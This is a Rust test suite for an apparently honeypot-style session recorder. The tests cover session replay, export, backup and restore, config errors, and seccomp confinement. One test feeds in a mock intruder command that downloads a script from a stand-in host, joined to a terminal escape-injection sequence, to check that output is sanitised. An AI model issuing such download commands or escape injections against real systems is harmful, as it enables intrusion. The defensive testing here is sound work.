//! The program as its operator meets it.

mod common;

use common::{PROGRAM, read_line, say, start, until};
use std::io::Write;
use std::process::Command;

fn text(bytes: &[u8]) -> String {
    String::from_utf8_lossy(bytes).into_owned()
}

#[test]
fn a_visit_can_be_listed_shown_replayed_exported_and_forgotten() {
    let mut run = start("visit", &[]);
    let mut talk = run.connect().unwrap();
    assert_eq!(read_line(&mut talk).unwrap(), "hello");
    say(&mut talk, "wget http://x.example/a.sh; \u{1b}]0;owned\u{7}").unwrap();
    drop(talk);
    until("the visit is over", || {
        text(&run.command(&["sessions"]).stdout).contains(" client")
    });
    let shown = run.command(&["show", "last"]);
    assert!(
        text(&shown.stdout).contains("wget http://x.example/a.sh; \\x1b]0;owned\\x07"),
        "{}",
        text(&shown.stdout)
    );
    for args in [
        &["sessions"][..],
        &["show", "last"],
        &["events"],
        &["status"],
        &["replay", "last", "--speed", "0"],
    ] {
        let out = run.command(args);
        assert!(out.status.success(), "{args:?}: {}", text(&out.stderr));
        assert!(
            !out.stdout.contains(&0x1b) && !out.stdout.contains(&7),
            "{args:?} let an escape through"
        );
    }
    assert!(
        text(&run.command(&["replay", "last", "--speed", "0"]).stdout).contains("wget http://x.example/a.sh")
    );
    let found = run.command(&["events", "--text", "x.example", "--json"]);
    let event: turncoat_event::Event = serde_json::from_slice(&found.stdout).unwrap();
    assert_eq!(event.kind.name(), "command.input");
    let cast = text(
        &run.command(&["export", "--format", "asciicast", "--session", "last"])
            .stdout,
    );
    assert!(
        cast.lines()
            .all(|l| serde_json::from_str::<serde_json::Value>(l).is_ok())
            && cast.lines().count() >= 2,
        "{cast}"
    );
    let copy = run.dir.join("copy");
    assert!(run.command(&["backup", copy.to_str().unwrap()]).status.success());
    let gone = run.command(&["forget", "127.0.0.0/8"]);
    assert_eq!(text(&gone.stdout), "1 sessions of 127.0.0.0/8 forgotten\n");
    assert_eq!(text(&run.command(&["sessions"]).stdout), "no sessions\n");
    assert_eq!(run.stop(), Some(0));
    let back = run.dir.join("back");
    let restored = Command::new(PROGRAM)
        .args([
            "restore",
            copy.to_str().unwrap(),
            "--data",
            back.to_str().unwrap(),
        ])
        .output()
        .unwrap();
    assert!(restored.status.success(), "{}", text(&restored.stderr));
    let listed = Command::new(PROGRAM)
        .args(["sessions", "--json", "--data", back.to_str().unwrap()])
        .output()
        .unwrap();
    assert_eq!(text(&listed.stdout).lines().count(), 1);
}

#[test]
fn mistakes_are_one_line_each_and_exit_1() {
    let dir = std::env::temp_dir().join(format!("turncoat-mistakes-{}", std::process::id()));
    std::fs::create_dir_all(&dir).unwrap();
    let file = dir.join("turncoat.toml");
    std::fs::write(&file, "[record]\nmaxsize = 1\n[sssh]\n").unwrap();
    let run = |args: &[&str]| {
        let out = Command::new(PROGRAM)
            .env_clear()
            .args(["--data", dir.to_str().unwrap()])
            .args(args)
            .output()
            .unwrap();
        (out.status.code(), text(&out.stderr))
    };
    let expected = format!(
        "turncoat: {0}:2: [record] has no key maxsize; did you mean max_size?\nturncoat: {0}:3: there is no section [sssh]; did you mean [ssh]?\n",
        file.display()
    );
    assert_eq!(run(&["check"]), (Some(1), expected.clone()));
    assert_eq!(run(&["run"]), (Some(1), expected));
    assert_eq!(run(&["sessions"]).1.lines().count(), 1);
    assert_eq!(
        run(&["status"]),
        (Some(1), format!("turncoat: not running on {}\n", dir.display()))
    );
    std::fs::remove_dir_all(&dir).unwrap();
}

#[test]
fn a_second_program_on_the_same_directory_is_refused() {
    let run = start("twice", &[]);
    let second = Command::new(PROGRAM)
        .env_clear()
        .env("TURNCOAT_SSH_LISTEN", "")
        .args(["--data", run.dir.to_str().unwrap()])
        .output()
        .unwrap();
    assert_eq!(second.status.code(), Some(1));
    assert!(
        text(&second.stderr).contains(&format!("already runs on {}", run.dir.display())),
        "{}",
        text(&second.stderr)
    );
    assert!(run.status().is_some(), "the first goes on");
}

#[test]
fn every_thread_of_every_process_is_confined() {
    let run = start("confined", &[]);
    let mut talk = run.connect().unwrap();
    read_line(&mut talk).unwrap();
    talk.write_all(b"x\n").unwrap();
    let processes = run.processes();
    assert_eq!(
        processes.iter().map(|(r, _)| r.as_str()).collect::<Vec<_>>(),
        ["front", "out", "record"]
    );
    for (role, pid) in processes {
        for task in std::fs::read_dir(format!("/proc/{pid}/task")).unwrap() {
            let status = std::fs::read_to_string(task.unwrap().path().join("status")).unwrap();
            assert!(
                status.contains("Seccomp:\t2") && status.contains("NoNewPrivs:\t1"),
                "a thread of {role} is not confined"
            );
        }
        // Nothing that an outsider reaches holds a file: sockets, and what the runtime polls with.
        if role == "front" {
            for fd in std::fs::read_dir(format!("/proc/{pid}/fd")).unwrap() {
                let target = std::fs::read_link(fd.unwrap().path()).unwrap();
                let target = target.to_string_lossy();
                let fine = ["socket:", "pipe:", "anon_inode:", "/dev/null"]
                    .iter()
                    .any(|p| target.starts_with(p));
                assert!(fine, "front holds {target}");
            }
        }
    }
}

#[test]
fn outputs_lose_and_double_nothing_over_kills() {
    let dir = std::env::temp_dir().join(format!("turncoat-lines-out-{}", std::process::id()));
    std::fs::create_dir_all(&dir).unwrap();
    let path = dir.join("events.json");
    let mut run = start(
        "outputs",
        &[("TURNCOAT_OUTPUT_JSONL_PATH", path.to_str().unwrap())],
    );
    for round in 0..6 {
        let mut talk = run.connect().unwrap();
        read_line(&mut talk).unwrap();
        for n in 0..50 {
            say(&mut talk, &format!("line {round} {n}")).unwrap();
        }
        run.signal(run.pid("out").unwrap(), 9);
        drop(talk);
        until("out is back", || {
            run.pid("out").is_some() && run.status().is_some()
        });
    }
    assert_eq!(run.stop(), Some(0));
    let recorded: Vec<u64> = run.events().iter().map(|e| e.seq).collect();
    let written: Vec<u64> = std::fs::read_to_string(&path)
        .unwrap()
        .lines()
        .map(|l| serde_json::from_str::<turncoat_event::Event>(l).unwrap().seq)
        .collect();
    assert_eq!(written, recorded);
    std::fs::remove_dir_all(&dir).unwrap();
}

#[test]
fn completions_and_man_page_come_from_the_declaration() {
    for args in [
        &["completions", "bash"][..],
        &["completions", "zsh"],
        &["man"],
        &["--help"],
        &["events", "--help"],
    ] {
        let out = Command::new(PROGRAM).args(args).output().unwrap();
        assert!(out.status.success() && out.stdout.len() > 500, "{args:?}");
    }
}
